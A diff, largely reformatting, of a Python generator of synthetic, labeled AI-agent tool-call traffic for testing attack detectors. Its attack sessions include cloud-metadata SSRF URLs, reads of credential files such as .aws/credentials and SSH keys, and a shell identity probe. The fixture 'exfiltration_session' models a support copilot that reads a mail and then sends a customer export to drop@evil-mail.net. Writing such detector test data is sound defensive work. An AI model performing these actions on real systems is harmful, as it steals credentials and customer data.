+                "http://10.0.12.7:8500/v1/kv/?recurse",
+                "http://[::ffff:169.254.169.254]/latest/user-data",
+            )
+        )
         add("fetch_docs", **ok)
         add("fetch_docs", args={"url": url}, **ok)
     elif kind == "destructive_no_approval":
@@ -502,8 +927,15 @@ def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: rando
         srv = rng.choice(("githbu", "slack-mcp-pro", "filesystem-plus", "free-pdf-tools"))
         for tool in ("list_tools_info", "read_document", "read_document"):
             t += rng.uniform(2, 6)
-            evs.append({**g.event(p, sid, t, "fs_read", rng), "server": srv, "tool": tool, **ok,
-                        "tool_description_hash": _desc_hash(srv, tool)})
+            evs.append(
+                {
+                    **g.event(p, sid, t, "fs_read", rng),
+                    "server": srv,
+                    "tool": tool,
+                    **ok,
+                    "tool_description_hash": _desc_hash(srv, tool),
+                }
+            )
     elif kind == "new_risky_tool":
         add("sh_git", args={"command": rng.choice(("whoami", "uname -a", "id"))}, **ok)
     elif kind == "burst":
@@ -511,31 +943,74 @@ def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: rando
         for _ in range(n):
             add("fs_read", step=0.3, **ok)
     elif kind == "credential_access":
-        add("fs_read", args={"path": rng.choice((f"{p.ctx.home}/.aws/credentials", f"{p.ctx.home}/.ssh/id_ed25519",
-                                                  f"{p.ctx.home}/src/api/.env", f"{p.ctx.home}/.kube/config"))}, **ok)
+        add(
+            "fs_read",
+            args={
+                "path": rng.choice(
+                    (
+                        f"{p.ctx.home}/.aws/credentials",
+                        f"{p.ctx.home}/.ssh/id_ed25519",
+                        f"{p.ctx.home}/src/api/.env",
+                        f"{p.ctx.home}/.kube/config",
+                    )
+                )
+            },
+            **ok,
+        )
     elif kind == "volume_shift":
         n = rng.randint(400, 600)
         span = rng.uniform(2000, 2700)
         for _ in range(n):
-            add("pg_query", step=span / n, args={"sql": f"select * from customers offset {rng.randint(0, 10**6)} limit 1000"},
-                **ok, result_bytes=rng.randint(100000, 400000))
+            add(
+                "pg_query",
+                step=span / n,
+                args={"sql": f"select * from customers offset {rng.randint(0, 10**6)} limit 1000"},
+                **ok,
+                result_bytes=rng.randint(100000, 400000),
+            )
     elif kind == "deny_ratio":
         for i in range(36):
             deny = i % 5 == 2 or i % 7 == 3
-            act = rng.choice(("gh_create_pr", "fs_edit")) if deny else rng.choice(("fs_read", "fs_list", "gh_get_issue"))
+            act = (
+                rng.choice(("gh_create_pr", "fs_edit")) if deny else rng.choice(("fs_read", "fs_list", "gh_get_issue"))
+            )
             if deny:
                 add(act, step=50.0, decision="deny", result="denied", reason="scope not granted", result_bytes=0)
             else:
                 add(act, step=50.0, **ok)
     elif kind == "rare_sequence":
-        hops = ["crm_customer", "gh_search_code", "pg_tables", "slack_history", "fs_search", "mail_search",
-                "pg_describe", "gh_list_prs", "kb_fetch", "fs_list", "crm_tickets", "gh_get_file"]
+        hops = [
+            "crm_customer",
+            "gh_search_code",
+            "pg_tables",
+            "slack_history",
+            "fs_search",
+            "mail_search",
+            "pg_describe",
+            "gh_list_prs",
+            "kb_fetch",
+            "fs_list",
+            "crm_tickets",
+            "gh_get_file",
+        ]
         rng.shuffle(hops)
         for a in hops:
             add(a, step=3.0, **ok)
     elif kind == "offhours_outlier":
-        acts = ["pg_tables", "pg_describe", "gh_search_code", "fs_search", "crm_tickets", "mail_search", "slack_history",
-                "sh_kubectl", "gh_list_prs", "fetch_grafana", "fs_list", "kb_fetch"]
+        acts = [
+            "pg_tables",
+            "pg_describe",
+            "gh_search_code",
+            "fs_search",
+            "crm_tickets",
+            "mail_search",
+            "slack_history",
+            "sh_kubectl",
+            "gh_list_prs",
+            "fetch_grafana",
+            "fs_list",
+            "kb_fetch",
+        ]
         for i in range(rng.randint(24, 32)):
             a = acts[i % len(acts)]
             r = rng.random()
@@ -548,27 +1023,52 @@ def _attack_session(g: Generator, kind: str, p: Principal, t0: float, rng: rando
     return [LabeledEvent(e, aid, kind, p.source) for e in evs]
 
 
-def _quarantine_spike(g: Generator, t0: float, rng: random.Random, aid: str | None, source: str, n: int) -> list[LabeledEvent]:
+def _quarantine_spike(
+    g: Generator, t0: float, rng: random.Random, aid: str | None, source: str, n: int
+) -> list[LabeledEvent]:
     out = []
     t = t0
     for _ in range(n):
         t += rng.uniform(2, 8) if aid else rng.uniform(30, 300)
-        reason = rng.choice(([{"field": "ts", "reason": "timestamp needs a time zone (RFC 3339)"}],
-                             [{"field": "tool", "reason": "Field required"}],
-                             [{"field": "args", "reason": "nested deeper than 16 levels"}],
-                             [{"field": "(body)", "reason": "invalid JSON"}]))
-        out.append(LabeledEvent(None, aid, "quarantine_spike" if aid else None, source,
-                                quarantine={"received_at": _iso(t), "source": source, "origin": "http",
-                                            "reasons": reason, "raw": '{"tool": "x", "ts": "2026-13-01"}'}))
+        reason = rng.choice(
+            (
+                [{"field": "ts", "reason": "timestamp needs a time zone (RFC 3339)"}],
+                [{"field": "tool", "reason": "Field required"}],
+                [{"field": "args", "reason": "nested deeper than 16 levels"}],
+                [{"field": "(body)", "reason": "invalid JSON"}],
+            )
+        )
+        out.append(
+            LabeledEvent(
+                None,
+                aid,
+                "quarantine_spike" if aid else None,
+                source,
+                quarantine={
+                    "received_at": _iso(t),
+                    "source": source,
+                    "origin": "http",
+                    "reasons": reason,
+                    "raw": '{"tool": "x", "ts": "2026-13-01"}',
+                },
+            )
+        )
     return out
 
 
-def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool = True, *,
-             start: str = DEFAULT_START, attacks_per_kind: int = 2, kinds: tuple[str, ...] | None = None) -> Iterator[LabeledEvent]:
+def generate(
+    seed: int = 1,
+    days: int = 3,
+    principals: int = 40,
+    attacks: bool = True,
+    *,
+    start: str = DEFAULT_START,
+    attacks_per_kind: int = 2,
+    kinds: tuple[str, ...] | None = None,
+) -> Iterator[LabeledEvent]:
     """Labeled traffic in time order. Most attack kinds are injected from day 1 on; kinds whose
     detectors learn a baseline (NEEDS_HISTORY) from day 2 on, so use days >= 3 for every kind."""
     g = Generator(seed, principals, start)
-    rng = g.rng
     items: list[LabeledEvent] = []
     for day in range(days):
         for p in g.principals:
@@ -578,14 +1078,16 @@ def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool =
         # a few benign validation failures per day and source
         for src in g.sources:
             qr = random.Random(_h(seed, "q", src, day))
-            items.extend(_quarantine_spike(g, g.start + day * 86400 + qr.uniform(0, 80000), qr, None, src, qr.randint(1, 4)))
+            items.extend(
+                _quarantine_spike(g, g.start + day * 86400 + qr.uniform(0, 80000), qr, None, src, qr.randint(1, 4))
+            )
     rug: list[tuple[float, str, str, str]] = []
     if attacks:
         kinds = kinds or tuple(ATTACK_KINDS)
         n = 0
         victims: set[str] = set()
         for kind in kinds:
-            for k in range(attacks_per_kind):
+            for _k in range(attacks_per_kind):
                 n += 1
                 aid = f"atk-{seed}-{n:03d}-{kind}"
                 arng = random.Random(_h(seed, aid))
@@ -598,17 +1100,20 @@ def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool =
                     cand = [p for p in humans if p.persona == "analyst"] or humans
                 elif kind in ("new_risky_tool",):
                     cand = [p for p in humans if p.persona in ("support", "analyst")] or humans
-                elif kind in ("secret_in_args", "code_exec_untrusted", "download_execute", "credential_access", "deny_ratio"):
+                elif kind in (
+                    "secret_in_args",
+                    "code_exec_untrusted",
+                    "download_execute",
+                    "credential_access",
+                    "deny_ratio",
+                ):
                     cand = [p for p in humans if p.persona == "developer"] or humans
                 else:
                     cand = humans
                 fresh = [c for c in cand if c.name not in victims]  # one attack per victim keeps ground truth clean
                 p = arng.choice(fresh or cand)
                 victims.add(p.name)
-                if kind == "offhours_outlier":
-                    local = arng.uniform(2.0, 4.0)
-                else:
-                    local = arng.uniform(10.0, 16.0)
+                local = arng.uniform(2.0, 4.0) if kind == "offhours_outlier" else arng.uniform(10.0, 16.0)
                 if kind == "volume_shift":
                     local = math.floor(local) + 0.05
                 t0 = g.start + day * 86400 + (local - p.tz) * 3600
@@ -619,10 +1124,26 @@ def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool =
                     rug.append((t0, server, tool, aid))
                     # the victim used the tool earlier (reviewed definition), then again after the change
                     sid = f"s-{_h('rug', aid)[:12]}"
-                    items.append(LabeledEvent(g.event(p, sid, t0 - 1800, "notes_search", arng,
-                                                      overrides={"decision": "allow", "result": "ok"}), None, None, p.source))
-                    items.append(LabeledEvent(g.event(p, sid, t0 + 5, "notes_search", arng,
-                                                      overrides={"decision": "allow", "result": "ok"}), None, None, p.source))
+                    items.append(
+                        LabeledEvent(
+                            g.event(
+                                p, sid, t0 - 1800, "notes_search", arng, overrides={"decision": "allow", "result": "ok"}
+                            ),
+                            None,
+                            None,
+                            p.source,
+                        )
+                    )
+                    items.append(
+                        LabeledEvent(
+                            g.event(
+                                p, sid, t0 + 5, "notes_search", arng, overrides={"decision": "allow", "result": "ok"}
+                            ),
+                            None,
+                            None,
+                            p.source,
+                        )
+                    )
                 else:
                     items.extend(_attack_session(g, kind, p, t0, arng, aid))
     items.sort(key=lambda x: (x.t, x.source))
@@ -633,7 +1154,13 @@ def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool =
         new_hash = _desc_hash(server, tool, version)
         for it in items:
             ev = it.event
-            if ev is not None and ev["server"] == server and ev["tool"] == tool and ev["ts"] >= _iso(t0) and it.attack_id is None:
+            if (
+                ev is not None
+                and ev["server"] == server
+                and ev["tool"] == tool
+                and ev["ts"] >= _iso(t0)
+                and it.attack_id is None
+            ):
                 ev["tool_description_hash"] = new_hash
                 it.attack_id, it.attack_kind = aid, "rug_pull"
     for i, it in enumerate(items):
@@ -642,17 +1169,38 @@ def generate(seed: int = 1, days: int = 3, principals: int = 40, attacks: bool =
         yield it
 
 
-def exfiltration_session(principal: str = "mallory", session: str = "s-exfil-1", start: float | None = None,
-                         evil_domain: str = "evil-mail.net") -> list[dict[str, Any]]:
+def exfiltration_session(
+    principal: str = "mallory",
+    session: str = "s-exfil-1",
+    start: float | None = None,
+    evil_domain: str = "evil-mail.net",
+) -> list[dict[str, Any]]:
     """One injected exfiltration chain (wire events) for other suites' tests: an inbound mail,
     a read of a customer export, a mail of it to an outside domain, within one session."""
     t = start if start is not None else time.time() - 60
-    base = {"principal": principal, "agent": "support-copilot/2.1", "session": session, "decision": "allow", "result": "ok"}
+    base = {
+        "principal": principal,
+        "agent": "support-copilot/2.1",
+        "session": session,
+        "decision": "allow",
+        "result": "ok",
+    }
     evs = [
         {**base, "server": "gmail", "tool": "read_email", "args": {"id": "m777"}, "result_bytes": 4200},
-        {**base, "server": "filesystem", "tool": "read_file", "args": {"path": "/srv/exports/customers.csv"}, "result_bytes": 880000},
-        {**base, "server": "gmail", "tool": "send_email", "args": {"to": f"drop@{evil_domain}", "subject": "backup", "body": "attached"},
-         "result_bytes": 300},
+        {
+            **base,
+            "server": "filesystem",
+            "tool": "read_file",
+            "args": {"path": "/srv/exports/customers.csv"},
+            "result_bytes": 880000,
+        },
+        {
+            **base,
+            "server": "gmail",
+            "tool": "send_email",
+            "args": {"to": f"drop@{evil_domain}", "subject": "backup", "body": "attached"},
+            "result_bytes": 300,
+        },
     ]
     for i, e in enumerate(evs):
         e["ts"] = _iso(t + 5 * i)
@@ -660,9 +1208,17 @@ def exfiltration_session(principal: str = "mallory", session: str = "s-exfil-1",
     return evs
 
 
-def live(seed: int = 1, rate: float = 20.0, *, principals: int = 40, attack_every_s: float = 30.0,
-         kinds: tuple[str, ...] | None = None, clock: Callable[[], float] = time.time,
-         sleep: Callable[[float], None] = time.sleep, limit: int | None = None) -> Iterator[LabeledEvent]:
+def live(
+    seed: int = 1,
+    rate: float = 20.0,
+    *,
+    principals: int = 40,
+    attack_every_s: float = 30.0,
+    kinds: tuple[str, ...] | None = None,
+    clock: Callable[[], float] = time.time,
+    sleep: Callable[[float], None] = time.sleep,
+    limit: int | None = None,
+) -> Iterator[LabeledEvent]:
     """Real-time traffic for the demo: about `rate` events/s with current timestamps; one
     attack (cycling through `kinds`, default: the rule kinds) every `attack_every_s` seconds."""
     g = Generator(seed, principals)
@@ -684,7 +1240,9 @@ def live(seed: int = 1, rate: float = 20.0, *, principals: int = 40, attack_ever
         evs = g.session_events(p, t0, random.Random(rng.random()))
         for i, e in enumerate(evs):
             n += 1
-            heapq.heappush(heap, (_epoch(e["ts"]), n, LabeledEvent(e, None, "__end__" if i == len(evs) - 1 else None, p.source)))
+            heapq.heappush(
+                heap, (_epoch(e["ts"]), n, LabeledEvent(e, None, "__end__" if i == len(evs) - 1 else None, p.source))
+            )
         active += 1
 
     for _ in range(concurrency):
